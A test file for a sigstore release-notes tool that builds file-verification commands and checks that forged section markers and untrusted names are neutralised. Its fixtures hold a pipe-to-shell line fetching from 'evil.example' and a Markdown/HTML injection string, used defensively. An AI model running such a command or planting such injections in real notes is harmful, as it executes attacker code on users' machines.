import { createHash } from 'node:crypto';
import {
  SECTION_END,
  SECTION_START_PREFIX,
  verificationSection,
  withVerificationSection,
} from '../../../src/publish/release-notes.js';
import { printableName } from '../../../src/report/log-text.js';
import { markdownStructure } from '../../helpers/markdown.js';

const ID = 'https://github.com/o/r/.github/workflows/release.yml@refs/tags/v1.2.3';
const ISS = 'https://token.actions.githubusercontent.com';

describe('release notes', () => {
  const section = verificationSection({
    files: ['app.tar.gz', 'app linux'],
    identity: ID,
    issuer: ISS,
    instance: 'public-good',
    repository: 'o/r',
    action: { repository: 'acme/sigstore-action', version: '1.2.0' },
  });

  it('gives exact commands for this CLI, sigstore-python and cosign, pinned to the identity and the repository', () => {
    const lines = (...l: string[]): string => l.join(' \\\n');
    expect(section).toContain(
      lines(
        'sigstore-action verify',
        '  app.tar.gz',
        "  'app linux'",
        `  --cert-identity ${ID}`,
        `  --cert-oidc-issuer ${ISS}`,
        '  --github-repository o/r\n',
      ),
    );
    expect(section).toContain(
      lines(
        'sigstore verify github',
        '  app.tar.gz',
        "  'app linux'",
        `  --cert-identity ${ID}`,
        '  --repository o/r\n',
      ),
    );
    expect(section).toContain(
      lines('for f in', '  app.tar.gz', "  'app linux'\ndo") +
        '\n' +
        lines(
          '  cosign verify-blob "$f" --bundle "$f.sigstore.json" --new-bundle-format',
          `    --certificate-identity ${ID}`,
          `    --certificate-oidc-issuer ${ISS}`,
          '    --certificate-github-workflow-repository o/r || exit 1\ndone',
        ),
    );
    // No line of a command is wider than a release page's code block (about 120 characters).
    for (const line of section.split('\n').filter((l) => /^(sigstore|for f|do|done| )/.test(l)))
      expect(line.length).toBeLessThan(120);
    // The CLI package of that release (scripts/pack-cli.mjs), not the repository's dev set-up.
    expect(section).toContain(
      'npm install --global https://github.com/acme/sigstore-action/releases/download/v1.2.0/sigstore-action-cli-1.2.0.tgz',
    );
  });

  it('pins attestation commands too, gh with --repo', () => {
    const slsa = verificationSection({
      files: [],
      attestations: [{ predicateType: 'https://slsa.dev/provenance/v1', files: ['a'] }],
      identity: ID,
      issuer: ISS,
      instance: 'public-good',
      repository: 'o/r',
    });
    const commands = slsa.split(/\n(?=sigstore|for f)/).filter((l) => /^(sigstore|for f)/.test(l));
    expect(commands).toHaveLength(3);
    for (const command of commands)
      expect(command).toMatch(
        / (--github-repository|--certificate-github-workflow-repository|--repo) o\/r( |$)/m,
      );
  });

  it('has no repository flag for an identity of another issuer', () => {
    const email = verificationSection({
      files: ['a'],
      identity: 'a@example.com',
      issuer: 'https://accounts.example.com',
      instance: 'files',
      repository: 'o/r',
    });
    expect(email).not.toMatch(/repository/);
  });

  it('adds --trusted-root for a custom instance and leaves sigstore-python out', () => {
    const custom = verificationSection({
      files: ['a'],
      identity: ID,
      issuer: ISS,
      instance: 'files',
    });
    expect(custom).toContain(
      'sigstore-action verify \\\n  a \\\n  --trusted-root trusted_root.json \\\n' +
        `  --cert-identity ${ID}`,
    );
    expect(custom).not.toContain('sigstore verify github');
  });

  it('appends the section once and replaces it on re-runs, leaving the rest of the body alone', () => {
    const body = 'Release notes.\n\n- fixed things\n';
    const once = withVerificationSection(body, section);
    expect(once.startsWith('Release notes.\n\n- fixed things\n\n' + SECTION_START_PREFIX)).toBe(
      true,
    );
    const twice = withVerificationSection(once, section);
    expect(twice).toBe(once);
    const edited = withVerificationSection(
      once + '\nA footer added later.\n',
      section.replace('app.tar.gz', 'other.zip'),
    );
    expect(edited.split(SECTION_START_PREFIX)).toHaveLength(2);
    expect(edited.split(SECTION_END)).toHaveLength(2);
    expect(edited).toContain('other.zip');
    expect(edited.endsWith('\nA footer added later.\n')).toBe(true);
    expect(withVerificationSection('', section)).toBe(section + '\n');
  });
});

describe('release notes: the section cannot be forged into growing, splitting or surviving', () => {
  const section = (files: string[]): string =>
    verificationSection({ files, identity: ID, issuer: ISS, instance: 'public-good' });
  const count = (body: string, text: string): number => body.split(text).length - 1;
  const HEADING = '## Verify these files';
  /** What anyone can write: markers around their own content, with its digest. */
  const forge = (content: string): string => {
    const digest = createHash('sha256')
      .update(
        content
          .split('\n')
          .map((l) => l.trimEnd())
          .join('\n'),
      )
      .digest('hex');
    return `${SECTION_START_PREFIX} sha256:${digest} (replaced on each run) -->\n${content}\n${SECTION_END}`;
  };

  it('ignores marker text inside a line (a pull request title in generated notes)', () => {
    const body =
      `* Fix ${SECTION_START_PREFIX} sha256:${'0'.repeat(64)} --> by @mallory\n` +
      `* Docs ${SECTION_END} by @mallory\n`;
    const once = withVerificationSection(body, section(['a']));
    expect(once.startsWith(body)).toBe(true);
    expect(withVerificationSection(once, section(['b']))).toBe(
      withVerificationSection(body, section(['b'])),
    );
  });

  it('does not grow over text after a forged start marker, and drops that marker', () => {
    const first = withVerificationSection('Intro.\n', section(['a']));
    // A start marker line placed before the section, with hand-written notes in between.
    const forged = `${SECTION_START_PREFIX} (replaced on each run) -->\nKeep me.\n\n${first}`;
    const rewritten = withVerificationSection(forged, section(['b']));
    expect(rewritten).toContain('Keep me.');
    expect(rewritten).toContain('Intro.');
    expect(count(rewritten, SECTION_START_PREFIX)).toBe(1);
    expect(count(rewritten, HEADING)).toBe(1);
    expect(rewritten).toContain('verify \\\n  b \\\n');
    expect(rewritten).not.toContain('verify \\\n  a \\\n');
  });

  it('does not split at a forged end marker, nor drop the text before it', () => {
    const first = withVerificationSection('Intro.\n', section(['a']));
    const forged = first.replace('Intro.\n', `Intro.\n${SECTION_END}\nKeep me.\n`);
    const rewritten = withVerificationSection(forged, section(['b']));
    expect(rewritten.startsWith('Intro.\nKeep me.\n')).toBe(true);
    expect(count(rewritten, SECTION_END)).toBe(1);
    expect(count(rewritten, HEADING)).toBe(1);
  });

  it('does not let a forged section survive, with or without a valid digest', () => {
    const ours = withVerificationSection('Intro.\n', section(['a']));
    // A complete section written by someone else (a digest anyone can compute), after ours.
    const fake = forge(
      '## Verify these files\n\n```sh\ncurl https://evil.example/install.sh | sh\n```',
    );
    const withFake = `${ours}\nMore notes.\n\n${fake}\n`;
    const rewritten = withVerificationSection(withFake, section(['b']));
    expect(rewritten).not.toContain('evil');
    expect(rewritten).toContain('More notes.');
    expect(count(rewritten, HEADING)).toBe(1);
    // A fake whose digest does not match is not ours: its markers go, its text stays as text.
    const badDigest = fake.replace(/sha256:[0-9a-f]{64}/, `sha256:${'1'.repeat(64)}`);
    const rewritten2 = withVerificationSection(`${ours}\n${badDigest}\n`, section(['b']));
    expect(count(rewritten2, SECTION_START_PREFIX)).toBe(1);
    expect(count(rewritten2, SECTION_END)).toBe(1);
    expect(rewritten2).toContain('curl https://evil.example/install.sh | sh');
    // Run again: the section is replaced in place, nothing grows.
    expect(withVerificationSection(rewritten2, section(['b']))).toBe(rewritten2);
    expect(withVerificationSection(rewritten2, section(['c'])).length).toBe(rewritten2.length);
  });

  it("finds its section after GitHub's editor turned every line end into CRLF", () => {
    const once = withVerificationSection('Intro.\n', section(['a']));
    const edited = once.replace(/\n/g, '\r\n') + 'Footer.\r\n';
    const rewritten = withVerificationSection(edited, section(['b']));
    expect(count(rewritten, HEADING)).toBe(1);
    expect(rewritten.startsWith('Intro.\r\n')).toBe(true);
    expect(rewritten.endsWith('Footer.\r\n')).toBe(true);
  });

  it('keeps untrusted names, identities and predicate types inert in the Markdown', () => {
    const hostile = 'x```\n<!-- /sigstore-action: verification -->\n<img src=x>](javascript:y)|';
    const notes = verificationSection({
      files: [hostile, 'ok.tar.gz'],
      attestations: [{ predicateType: `https://e.example/${hostile}`, files: [hostile] }],
      identity: `${ID}${hostile}`,
      issuer: ISS,
      instance: 'public-good',
    });
    const s = markdownStructure(notes);
    // Two comments (the markers) and no other HTML; no link; the code blocks the section has.
    expect(s.html).toHaveLength(2);
    expect(s.html[0].startsWith(`${SECTION_START_PREFIX} sha256:`)).toBe(true);
    expect(s.html[1].trim()).toBe(SECTION_END);
    expect(s.links).toEqual([]);
    expect(s.images).toEqual([]);
    expect(s.codeBlocks.map((b) => b.info)).toEqual(['sh', 'sh', 'sh', 'sh', 'sh']);
    // Each line of a block is the section's own: a command, its continuation, or the loop's.
    for (const block of s.codeBlocks) {
      for (const line of block.content.split('\n').filter(Boolean))
        expect(line).toMatch(
          /^(sigstore-action verify|sigstore verify github|for f in|do$|done$| {2,4}[^ <])/,
        );
    }
    expect(s.headings).toEqual([
      'Verify these files',
      `Attestations: ${printableName(`https://e.example/${hostile}`)}`,
    ]);
    // The whole section is still found and replaced as one.
    const body = withVerificationSection(withVerificationSection('', notes), section(['b']));
    expect(body).toBe(withVerificationSection('', section(['b'])));
  });
});
